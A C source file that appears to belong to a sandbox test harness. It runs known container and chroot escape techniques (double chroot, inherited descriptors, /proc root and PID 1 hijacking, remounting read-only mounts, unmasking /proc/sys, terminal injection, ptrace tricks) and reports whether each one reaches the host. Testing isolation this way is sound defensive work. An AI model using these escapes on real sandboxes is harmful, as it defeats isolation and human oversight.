/* SPDX-License-Identifier: Apache-2.0
 * attack.c: the known ways out of a new root, one for each word. It runs inside, linked statically,
 * as the command of `pivotcheck switch`; attack_test.sh runs it for every strategy and writes the
 * table.
 *
 *     attack WAY MARKER [DIRECTORY]
 *
 * MARKER is the path of a file of the host's, from the host's root, without the first slash;
 * DIRECTORY is one inside to work with. It prints "OUT" if the file could be opened, "in" if not,
 * and ends with 0; anything else is a broken attack, status 2. A way that the kernel refuses is
 * "in".
 *
 * The way `init` prints five such words: PID 1 taken over, its memory, descriptors, namespaces,
 * program. The way `exchange` runs outside (exchange.h), and `sees` then looks for the host inside.
 *
 * It is C, and small, so that a reader who doubts the table can check all of it. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <termios.h>
#include <unistd.h>

#include "exchange.h"
#include "hijack.h"

static const char* marker;

static int opens(int directory, const char* path) {
  const int fd = openat(directory, path, O_RDONLY | O_CLOEXEC);
  if (fd >= 0) close(fd);
  return fd >= 0;
}

/* From where the process stands: up as far as it goes, and then down to the marker. */
static int climbs_out(void) {
  for (int i = 0; i < 64; ++i) {
    if (opens(AT_FDCWD, marker)) return 1;
    if (chdir("..") != 0) return 0;
  }
  return 0;
}

/* chroot(2), "BUGS" as they call it: the root moves below, the current directory does not. */
static int second_chroot(const char* directory) {
  const int root = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (root < 0) exit(2);
  if (chroot(directory) != 0) return 0;
  if (fchdir(root) != 0) exit(2);
  return climbs_out();
}

/* A directory that somebody opened before the switch. */
static int held_descriptor(void) {
  struct stat status;
  for (int fd = 0; fd < 1024; ++fd) {
    if (fstat(fd, &status) != 0 || !S_ISDIR(status.st_mode)) continue;
    if (fchdir(fd) == 0 && climbs_out()) return 1;
  }
  return 0;
}

/* The host has come in, at the root or in a directory of it, or of one of those. */
static int sees(int directory, int depth) {
  if (opens(directory, marker)) return 1;
  DIR* folder = depth == 0 ? NULL : fdopendir(openat(directory, ".", O_RDONLY | O_CLOEXEC));
  int out = 0;
  struct dirent* entry;
  while (folder != NULL && !out && (entry = readdir(folder)) != NULL) {
    const int below = openat(directory, entry->d_name, O_PATH | O_DIRECTORY | O_CLOEXEC);
    out = below >= 0 && sees(below, depth - 1);
    if (below >= 0) close(below);
  }
  if (folder != NULL) closedir(folder);
  return out;
}

/* Somebody else's root, if /proc shows one that is not ours. */
static int proc_root(void) {
  DIR* proc = opendir("/proc");
  if (proc == NULL) exit(2);
  int out = 0;
  struct dirent* entry;
  while (!out && (entry = readdir(proc)) != NULL) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9') continue;
    char path[512];
    snprintf(path, sizeof(path), "/proc/%s/root", entry->d_name);
    const int root = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (root < 0) continue;
    out = opens(root, marker);
    close(root);
  }
  closedir(proc);
  return out;
}

/* The program of the process that started this one: may its mode be changed? It is not. */
static int supervisors_program(void) {
  char path[64];
  struct stat status;
  snprintf(path, sizeof(path), "/proc/%d/exe", (int)getppid());
  return stat(path, &status) == 0 && chmod(path, status.st_mode & 07777) == 0;
}

/* The cover is taken off, and one's own mount namespace is entered once more: setns leads to the top
 * of what is left. A pidfd of oneself is a descriptor of it that needs no /proc. */
static int umount_and_setns(void) {
  const int self = (int)syscall(SYS_pidfd_open, getpid(), 0);
  if (self < 0) exit(2);
  for (int i = 0; i < 4; ++i) {
    const int uncovered = umount2("/", MNT_DETACH) == 0;
    if (setns(self, CLONE_NEWNS) == 0 && climbs_out()) return 1;
    if (!uncovered) break;
  }
  return 0;
}

/* Can a file be made there, or is what lies below the mount to be seen? */
static int is_open(int directory, const char* path) {
  char name[512];
  snprintf(name, sizeof(name), "%s/made", path);
  const int fd = openat(directory, name, O_CREAT | O_WRONLY | O_CLOEXEC, 0600);
  if (fd >= 0) unlinkat(directory, name, 0);
  snprintf(name, sizeof(name), "%s/covered", path);
  return fd >= 0 || opens(directory, name);
}

/* Everything that would take a read-only mount away or make it writable. */
static int undone(const char* directory) {
  struct {
    unsigned long set, clear, propagation, userns;
  } const writable = {0, 1 /* MOUNT_ATTR_RDONLY */, 0, 0};
  mount(NULL, directory, NULL, MS_REMOUNT | MS_BIND, NULL);
  mount(NULL, directory, NULL, MS_REMOUNT, NULL);
  syscall(SYS_mount_setattr, AT_FDCWD, directory, 0, &writable, sizeof(writable));
  if (is_open(AT_FDCWD, directory)) return 1;
  const int clone = (int)syscall(SYS_open_tree, AT_FDCWD, directory, 1 | O_CLOEXEC);
  if (clone >= 0) {
    syscall(SYS_mount_setattr, clone, "", AT_EMPTY_PATH, &writable, sizeof(writable));
    if (is_open(clone, ".")) return 1;
    close(clone);
  }
  umount2(directory, MNT_DETACH);
  return is_open(AT_FDCWD, directory);
}

/* The same in a copy of the mount namespace, and in one with all capabilities over it. */
static int unlocked(const char* directory) {
  return undone(directory) || (unshare(CLONE_NEWNS) == 0 && undone(directory)) ||
         (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 && undone(directory));
}

/* A setting of the whole machine can be opened for writing: in the /proc that is there, without what
 * covers it, or in another one; then in a copy of the mount namespace, and in one with all capabilities
 * over it. Nothing is written. */
static int unmasked_here(const char* directory) {
  mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL);
  umount2("/proc/sys", MNT_DETACH);
  mount("none", directory, "proc", 0, NULL);
  for (int own = 0; own < 2; ++own) {
    char path[512];
    snprintf(path, sizeof(path), "%s/%s", own ? directory : "/proc", "sys/vm/drop_caches");
    if (open(path, O_WRONLY | O_CLOEXEC) >= 0) return 1;
  }
  return 0;
}

static int unmasked(const char* directory) {
  return unmasked_here(directory) || (unshare(CLONE_NEWNS) == 0 && unmasked_here(directory)) ||
         (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0 && unmasked_here(directory));
}

/* What no namespace closes: the user's keys, the sockets of the machine below, children in the name of
 * the parent; and a user namespace, in which lost capabilities come back. */
static int outer_calls(void) {
  if (syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -4 /* the user's */, 0) >= 0) return 1;
  if (socket(AF_VSOCK, SOCK_STREAM, 0) >= 0) return 1;
  const long child = syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
  if (child == 0) _exit(0);
  return child > 0 || unshare(CLONE_NEWUSER) == 0;
}

/* The terminal at standard input is this process's own: it can type into it (ioctl TIOCSTI), where
 * the kernel still has that. */
static int has_terminal(void) {
  if (!isatty(0)) exit(2);
  return tcgetsid(0) == getsid(0) || opens(AT_FDCWD, "/dev/tty");
}

/* The host looks whether it sees this mount: the caller of the test, not we. */
static int mount_inside(const char* directory) {
  mount("none", directory, "tmpfs", 0, "size=4k");
  return 0;
}

/* PID 1 is made to do what this process may not: mount, make a directory, open the marker. */
static int init_taken_over(const char* directory) {
  if (!hijack_init()) return 0;
  if (mount(NULL, directory, NULL, MS_PRIVATE, NULL) != 0 && errno == EPERM &&
      init_calls(SYS_mount, 0, directory, 0, MS_PRIVATE) != -EPERM) {
    return 1;
  }
  if (syscall(SYS_mkdirat, AT_FDCWD, "/made", 0700) != 0 && errno == EPERM &&
      init_calls(SYS_mkdirat, AT_FDCWD, "/made", 0700, 0) != -EPERM) {
    return 1;
  }
  init_calls(SYS_chdir, 0, "/", 0, 0);
  return init_calls(SYS_openat, AT_FDCWD, marker, O_RDONLY, 0) >= 0;
}

/* What /proc shows of PID 1: its memory can be written to, a descriptor leads to the host, a
 * namespace is another one. */
static int init_memory(void) { return open("/proc/1/mem", O_RDWR | O_CLOEXEC) >= 0; }

static int init_descriptors(void) {
  DIR* folder = opendir("/proc/1/fd");
  int out = 0;
  struct dirent* entry;
  while (folder != NULL && !out && (entry = readdir(folder)) != NULL) {
    const int fd = openat(dirfd(folder), entry->d_name, O_PATH | O_DIRECTORY | O_CLOEXEC);
    out = fd >= 0 && entry->d_name[0] != '.' && opens(fd, marker);
  }
  return out;
}

static int init_namespaces(void) {
  static const char* const kinds[] = {"mnt", "net", "ipc", "uts", "cgroup", "pid", "user"};
  for (size_t i = 0; i < sizeof(kinds) / sizeof(*kinds); ++i) {
    char path[64];
    struct stat ours;
    struct stat its;
    snprintf(path, sizeof(path), "/proc/self/ns/%s", kinds[i]);
    if (stat(path, &ours) != 0) exit(2);
    snprintf(path, sizeof(path), "/proc/1/ns/%s", kinds[i]);
    if (stat(path, &its) == 0 && its.st_ino != ours.st_ino) return 1;
  }
  return 0;
}

/* The program of PID 1, if it is a file that has a name somewhere. */
static int init_program(void) {
  struct stat status;
  if (stat("/proc/1/exe", &status) != 0 || status.st_nlink == 0) return 0;
  return chmod("/proc/1/exe", 04777) == 0;
}

/* No way out, but one to look as if the command had ended. */
static int stops_as_tracee(void) {
  if (ptrace(PTRACE_TRACEME, 0, 0, 0) != 0) return 2;
  signal(SIGUSR1, SIG_IGN); /* a tracee stops for it all the same */
  raise(SIGUSR1);
  return 43;
}

/* The main thread ends the process. Another thread has made the parent its tracer, so that the parent
 * must reap that one before it sees the end. */
static void* traced(void* unused) {
  ptrace(PTRACE_TRACEME, 0, 0, 0);
  for (;;) pause();
  return unused;
}

static int ends_but_for_a_thread(void) {
  pthread_t thread;
  if (pthread_create(&thread, NULL, traced, NULL) != 0) return 2;
  usleep(50000);
  _exit(44);
}

/* A child of the parent's, which nobody waits for. */
static int leaves_a_sibling(void) {
  if (syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0) _exit(0);
  usleep(50000);
  return 45;
}

static const char* word(int out) { return out ? "OUT" : "in"; }

/* Everything about PID 1, as a row of the table. It is taken over last: it may not survive that. */
static int init_row(const char* directory) {
  const int memory = init_memory();
  const int descriptors = init_descriptors();
  const int namespaces = init_namespaces();
  const int program = init_program();
  printf("%s | %s | %s | %s | %s\n", word(init_taken_over(directory)), word(memory),
         word(descriptors), word(namespaces), word(program));
  return 0;
}

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  const char* way = argv[1];
  const char* directory = argc > 3 ? argv[3] : "/";
  marker = argv[2];
  if (strcmp(way, "init") == 0) return init_row(directory);
  if (strcmp(way, "traceme") == 0) return stops_as_tracee();
  if (strcmp(way, "traced-thread") == 0) return ends_but_for_a_thread();
  if (strcmp(way, "sibling") == 0) return leaves_a_sibling();
  if (strcmp(way, "exchange") == 0 && argc == 5) return exchange_names(argv[2], argv[3], argv[4]);
  int out;
  if (strcmp(way, "second-chroot") == 0) out = second_chroot(directory);
  else if (strcmp(way, "descriptor") == 0) out = held_descriptor();
  else if (strcmp(way, "proc") == 0) out = proc_root();
  else if (strcmp(way, "exe") == 0) out = supervisors_program();
  else if (strcmp(way, "umount-setns") == 0) out = umount_and_setns();
  else if (strcmp(way, "mount") == 0) out = mount_inside(directory);
  else if (strcmp(way, "cwd") == 0) out = climbs_out();
  else if (strcmp(way, "unlock") == 0) out = unlocked(directory);
  else if (strcmp(way, "unlock-root") == 0) out = unlocked("/");
  else if (strcmp(way, "unmask") == 0) out = unmasked(directory);
  else if (strcmp(way, "outer") == 0) out = outer_calls();
  else if (strcmp(way, "terminal") == 0) out = has_terminal();
  else if (strcmp(way, "sees") == 0) out = sees(AT_FDCWD, 2);
  else return 2;
  puts(word(out));
  return 0;
}
